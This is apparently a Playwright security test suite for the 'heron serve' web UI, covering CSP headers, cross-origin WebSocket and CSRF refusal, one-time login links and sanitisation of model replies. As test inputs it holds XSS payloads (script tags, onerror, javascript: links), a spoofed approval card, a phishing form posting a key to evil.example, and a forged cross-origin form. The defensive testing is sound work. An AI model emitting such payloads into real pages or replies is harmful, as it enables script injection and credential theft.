"""The web UI's security, end to end against the real `heron serve` in Chromium: a page of
another origin (same site: another port of 127.0.0.1) can neither open /ws nor forge a form
POST, even with the person's cookie; a browser logs in through a one-time address (and a spent
one says to run `heron web`); every response carries the CSP, the UI runs under it with no
inline script and no CSP violation, and DOMPurify strips a script from a model's reply."""

from __future__ import annotations

import contextlib
import http.server
import re
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from web_harness import SteeredModel, chromium, control_login, serve

pytestmark = pytest.mark.slow

try:
    from playwright.sync_api import expect
except ImportError:  # pragma: no cover
    pytest.skip("playwright is not installed", allow_module_level=True)

CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self'; "
    "img-src 'self' data: blob:; connect-src 'self'; frame-ancestors 'none'; form-action 'none'"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as b:
        yield b


def _get(url: str, headers: dict[str, str] | None = None) -> tuple[int, dict[str, str], bytes]:
    try:
        request = urllib.request.Request(url, headers=headers or {})
        with urllib.request.urlopen(request, timeout=30) as r:
            return r.status, dict(r.headers), r.read()
    except urllib.error.HTTPError as e:
        return e.code, dict(e.headers), e.read()


def test_every_file_and_route_carries_the_csp_and_the_page_has_no_inline_script():
    with serve(SteeredModel()) as site:
        for path in ("/", "/app.js", "/style.css", "/vendor/purify.js", "/api/conversations"):
            for cookie, expected in ((site.cookie, 200), ({}, 401)):
                status, headers, _ = _get(site.url + path, cookie)
                assert status == expected, path
                assert headers["content-security-policy"] == CSP, path
                assert headers["x-content-type-options"] == "nosniff", path
                assert headers["x-frame-options"] == "DENY", path
        _, _, page = _get(site.url + "/", site.cookie)
        for script in re.findall(rb"<script\b([^>]*)>(.*?)</script>", page, re.S):
            assert b"src=" in script[0] and script[1].strip() == b""
        assert not re.search(rb"\son[a-z]+\s*=", page)  # no inline event handlers


def test_the_ui_runs_under_the_csp_without_a_violation(browser):
    model = SteeredModel()
    with serve(model) as site:
        pg = site.context(browser).new_page()
        violations: list[str] = []
        pg.on("console", lambda m: violations.append(m.text) if "Content Security" in m.text else 0)
        pg.goto(site.url + "/")
        box = pg.get_by_role("textbox", name="message")
        box.fill("show code")
        box.press("Enter")
        model.reply("```py\nprint('hi')\n```")
        expect(pg.locator(".msg.assistant:not(.live) pre code")).to_contain_text("print")
        assert violations == []
        pg.context.close()


def _replied(pg: Any, model: SteeredModel, text: str) -> Any:
    """A message sent and the model's reply `text`: the reply as the page shows it."""
    box = pg.get_by_role("textbox", name="message")
    box.fill("hi")
    box.press("Enter")
    model.reply(text)
    return pg.locator(".msg.assistant:not(.live)")


def test_a_script_in_a_reply_is_stripped(browser):
    model = SteeredModel()
    with serve(model) as site:
        pg = site.page(browser)
        reply = _replied(
            pg,
            model,
            'Look <script>window.owned=1</script><img src=x onerror="window.owned=2">'
            '<a href="javascript:window.owned=3">link</a> **done**',
        )
        expect(reply.locator("strong")).to_have_text("done")
        assert reply.locator("script").count() == 0
        assert reply.locator("[onerror]").count() == 0
        assert "javascript:" not in (reply.locator("a").first.get_attribute("href") or "")
        assert pg.evaluate("window.owned") is None
        pg.context.close()


# qa21p finding 5: a reply that drew an exact copy of the approval card (the UI's own classes
# on a form with Allow and Deny), and a form that could send what the person typed anywhere.
SPOOF = (
    '<div class="approval waiting" id="fake" style="color:red" data-approval="1">'
    '<div class="approval-tag">The agent wants to run (bash, sandboxed):</div>'
    '<pre class="approval-command"><code>ls -la notes/</code></pre>'
    '<form class="approval-actions" method="post" action="/api/memory/review/1/accept">'
    '<button class="allow">Allow</button> <button class="deny">Deny</button></form></div>'
    '<form action="https://evil.example/"><input name="key" placeholder="paste your key">'
    "<select><option>a</option></select><textarea>t</textarea></form>\n\n"
    "```py\nprint('kept')\n```"
)


def test_a_reply_cannot_draw_the_approval_card_or_a_form(browser):
    model = SteeredModel()
    with serve(model) as site:
        pg = site.page(browser)
        reply = _replied(pg, model, SPOOF)
        expect(reply.locator("pre code").last).to_contain_text("print('kept')")
        expect(reply).to_contain_text("ls -la notes/")  # the text stays, as text
        for tag in ("form", "button", "input", "select", "textarea", "option"):
            assert reply.locator(tag).count() == 0, tag
        assert reply.locator(".approval, [id], [style], [data-approval]").count() == 0
        # The one class a reply keeps: a code block's language, for its highlighting (which
        # then adds its own inside the block).
        assert reply.locator(".md [class]:not(pre code, pre code *)").count() == 0
        assert reply.locator("code.language-py").count() == 1
        assert pg.get_by_role("button", name="Allow").count() == 0
        pg.context.close()


RAW_TEXT = ("title", "style", "xmp", "noembed", "noscript", "iframe", "noframes", "textarea")


def test_a_reply_holds_no_raw_text_element(browser):
    """Raw-text elements read what follows as plain characters (QA21v M3): none is kept, and
    their text stays in the reply as text; the last, plaintext, is left open on purpose."""
    model = SteeredModel()
    with serve(model) as site:
        pg = site.page(browser)
        tags = "".join(f"<{t}>in-{t}</{t}> " for t in RAW_TEXT)
        text = f"**before**\n\n{tags}\n\n**after**\n\n<plaintext>end"
        reply = _replied(pg, model, text)
        expect(reply.locator("strong")).to_have_text(["before", "after"])
        for tag in (*RAW_TEXT, "plaintext"):
            assert reply.locator(tag).count() == 0, tag
        pg.context.close()


class _Elsewhere(http.server.BaseHTTPRequestHandler):
    """Another site: a page on another port of 127.0.0.1 (the same site for cookies, so the
    person's SameSite=Strict cookie goes along: only the Origin checks stop it), blank or
    holding `form` (an auto-submitted form, the CSRF of the QA report)."""

    form = ""

    def do_GET(self) -> None:
        body = b"<!doctype html><title>elsewhere</title>"
        if self.path == "/forge":
            body += self.form.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        return None


@contextlib.contextmanager
def _elsewhere(form: str = "") -> Iterator[str]:
    handler = type("Handler", (_Elsewhere,), {"form": form})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


_OPEN = """url => new Promise(done => {
  const ws = new WebSocket(url);
  ws.onopen = () => done("open");
  ws.onerror = () => done("refused");
})"""


def test_a_page_of_another_origin_cannot_open_the_socket(browser):
    with serve(SteeredModel()) as site, _elsewhere() as other:
        ws_url = site.url.replace("http://", "ws://") + "/ws"
        context = site.context(browser)  # logged in: the cookie alone would let it in
        pg = context.new_page()
        pg.goto(other + "/")
        assert pg.evaluate(_OPEN, ws_url) == "refused"
        pg.goto(site.url + "/")  # the UI's own page opens it
        assert pg.evaluate(_OPEN, ws_url) == "open"
        context.close()


def test_a_form_posted_from_another_origin_changes_nothing(browser):
    """A page elsewhere auto-submits a form to accept a memory suggestion, in a browser that
    is logged in: refused (403), and the suggestion still waits."""
    from heron.config import Settings
    from heron.memory import EntryPath, MemoryService
    from heron.store import Store

    settings = Settings.load()
    store = Store(settings.paths.ensure().db)
    service = MemoryService(settings.paths.memory, store)
    path = EntryPath("personal", "when", "coding", "prefer-small-commits")
    suggestion = service.suggest_lesson(path, "Prefer small commits", "one huge commit")
    with serve(SteeredModel()) as site:
        action = f"{site.url}/api/memory/review/{suggestion}/accept"
        form = f'<form id=f method=POST action="{action}"><input name=x value=1></form>'
        with _elsewhere(form) as other:
            context = site.context(browser)
            pg = context.new_page()
            pg.goto(other + "/forge")
            with pg.expect_navigation():
                pg.evaluate("document.getElementById('f').submit()")
            assert "another site" in pg.content()
            context.close()
    assert [s.id for s in service.waiting()] == [suggestion]
    store.close()


def test_a_browser_logs_in_through_a_one_time_address(browser):
    model = SteeredModel()
    with serve(model) as site:
        context = browser.new_context()  # a browser that never logged in
        pg = context.new_page()
        pg.goto(site.url + "/")
        expect(pg.locator("body")).to_contain_text("Run `heron web` on this machine")
        pg.goto(site.login)  # the printed address, already spent by the harness
        expect(pg.locator("body")).to_contain_text("is wrong, has expired, or was already used")
        expect(pg.locator("body")).to_contain_text("heron web")
        login = control_login(site)  # what `heron web` asks for
        pg.goto(login)  # sets the HttpOnly, SameSite=Strict cookie and redirects to /
        cookie = next(c for c in context.cookies() if c["name"] == "heron_session")
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
        assert cookie["expires"] > time.time() + 29 * 24 * 3600  # kept a month, not a session
        assert pg.evaluate("document.cookie") == ""  # out of a script's reach
        box = pg.get_by_role("textbox", name="message")
        box.fill("logged in")
        box.press("Enter")
        model.reply("welcome")
        expect(pg.locator(".msg.assistant:not(.live)")).to_have_text("welcome")
        # The code worked once: a second browser cannot use it.
        other = browser.new_context()
        pg2 = other.new_page()
        pg2.goto(login)
        expect(pg2.locator("body")).to_contain_text("is wrong, has expired, or was already used")
        other.close()
        context.close()


def test_a_tab_whose_login_is_gone_says_so_keeps_the_text_and_stops_retrying(browser):
    """docs/serve.md's way to log every browser out (stop, delete the sessions file, start
    again) with a tab left open: the tab says it is logged out and how to log in, not that
    the serve is down, and stops reopening its socket until the person comes back to it."""
    from heron.serve.auth import SESSIONS_NAME

    model = SteeredModel()
    with serve(model) as site:
        pg = site.page(browser)
        box = pg.get_by_role("textbox", name="message")
        expect(box).to_be_visible()
        expect(pg.get_by_role("status", name="connection open")).to_have_count(1)
        port = urlsplit(site.url).port
    (site.home / SESSIONS_NAME).unlink()
    sockets: list[str] = []
    pg.on("websocket", lambda ws: sockets.append(ws.url))
    with serve(model, port=port) as again:
        notice = pg.get_by_role("alert", name="logged out")
        expect(notice).to_contain_text("heron web", timeout=30_000)
        expect(pg.get_by_role("status", name="connection logged out")).to_have_count(1)
        tried = len(sockets)
        box.fill("still here")
        box.press("Enter")
        expect(pg.locator(".toast")).to_contain_text("Logged out")
        expect(pg.locator(".toast")).not_to_contain_text("no connection")
        expect(box).to_have_value("still here")
        pg.wait_for_timeout(3000)  # the retries were 0.2, 0.4, 0.8, 1.6 s apart
        assert len(sockets) == tried
        other = pg.context.new_page()  # `heron web`'s address, opened in another tab
        other.goto(control_login(again))
        other.close()
        pg.bring_to_front()
        pg.evaluate("window.dispatchEvent(new Event('focus'))")
        expect(notice).to_have_count(0)
        box.press("Enter")
        model.reply("back")
        expect(pg.locator(".msg.assistant:not(.live)")).to_have_text("back")
        pg.context.close()
